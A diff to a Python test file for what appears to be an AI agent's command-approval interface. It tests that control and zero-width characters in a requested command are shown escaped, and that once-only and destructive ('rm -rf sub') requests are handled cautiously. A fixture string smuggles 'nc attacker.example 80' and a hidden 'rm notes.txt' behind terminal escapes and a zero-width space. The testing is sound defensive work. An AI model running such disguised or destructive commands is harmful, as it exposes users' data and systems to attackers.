@@ -124,3 +124,16 @@ def test_companion_chat_prints_the_command_escaped_on_the_terminal(tmp_path: Pat
     assert "\x1b" not in question and "\r" not in question.replace("\r\n", "") and "\u200b" not in question
     assert "nc attacker.example 80\\x1b[2K\\rls -la\\necho hi <U+200B># rm notes.txt" in question
     assert "invisible or control character" in question
+
+
+def test_a_once_only_card_says_why_always_is_not_offered_and_is_not_treated_as_destructive(qtbot) -> None:
+    panel = ApprovalPanel()
+    qtbot.addWidget(panel)
+    why = "sh runs code (a workspace file, or whatever it is given), so I can only allow it once."
+    card = panel.add_request(ev.ApprovalNeeded("r1", "sh run.sh", "I need your OK.", False, 60,
+                                               ACCESS_WRITE, False, why))
+    assert card.always_button.isHidden() and why in card.details.text()
+    assert card.keyboard_approvable()  # not a destructive line: Ctrl+Enter approves once
+    danger = panel.add_request(ev.ApprovalNeeded("r2", "rm -rf sub", "That deletes folders.", False, 60,
+                                                 ACCESS_WRITE))
+    assert not danger.keyboard_approvable()
